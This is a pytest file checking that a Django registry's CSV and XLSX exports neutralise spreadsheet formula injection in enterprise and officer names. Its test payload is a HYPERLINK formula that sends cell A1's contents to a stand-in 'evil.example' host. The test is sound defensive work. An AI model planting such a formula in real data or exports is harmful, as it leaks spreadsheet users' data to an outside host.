"""A name that a spreadsheet would run as a formula is kept by the import and written as
text by every export: the registry's CSV and XLSX, and the leads report's workbook."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.factories import UserFactory
from tests.leads.factories import ZHAOQING, LeadFactory, regions_give
from tests.support import signed_in
from zhaoshang.core.roles import Role
from zhaoshang.registry.imports.pipeline import enterprise_import
from zhaoshang.registry.models import Enterprise

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def streamed(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def evil_enterprise(codes, tmp_path) -> Enterprise:
    (code,) = codes(1)
    path = tmp_path / "list.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["uscc", "name", "name_en", "region_code", "industry_code"])
        writer.writerow([code, EVIL, "+SUM(1,2)", "441284", "3971"])
    report = enterprise_import(actor=None, path=path)
    assert report.created == 1, report.errors
    return Enterprise.objects.get(uscc=code)


def test_the_import_keeps_a_formula_like_name_as_written(evil_enterprise):
    assert evil_enterprise.name == EVIL
    assert evil_enterprise.name_en == "+SUM(1,2)"


def test_the_csv_export_writes_formula_like_text_behind_an_apostrophe(
    evil_enterprise, officer, tmp_path
):
    response = signed_in(officer).get("/en/officer/enterprises/export.csv")
    body = streamed(response).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(body))
    assert row["name"] == "'" + EVIL
    assert row["name_en"] == "'+SUM(1,2)"

    # The export reads back into the registry unchanged.
    again = tmp_path / "again.csv"
    again.write_text(body, encoding="utf-8")
    enterprise_import(actor=None, path=again)
    evil_enterprise.refresh_from_db()
    assert (evil_enterprise.name, evil_enterprise.name_en) == (EVIL, "+SUM(1,2)")


def test_the_xlsx_export_writes_formula_like_text_as_text(evil_enterprise, officer):
    response = signed_in(officer).get("/en/officer/enterprises/export.xlsx")
    sheet = load_workbook(io.BytesIO(streamed(response))).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert name.value == EVIL
    assert name.data_type == "s"


def test_the_leads_report_writes_an_officers_formula_like_name_as_text(db):
    manager = regions_give(UserFactory.create(username="meng", roles=[Role.MANAGER]), ZHAOQING)
    officer = UserFactory.create(username="evil", first_name=EVIL, roles=[Role.PROMOTION_OFFICER])
    regions_give(officer, ZHAOQING)
    LeadFactory.create(company="A", officers=[officer])
    response = signed_in(manager).get("/en/officer/leads/reports/export.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for row in book["Workload"].iter_rows() for cell in row]
    names = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert names, "the officer is in the workload sheet"
    assert all(cell.data_type == "s" for cell in names)
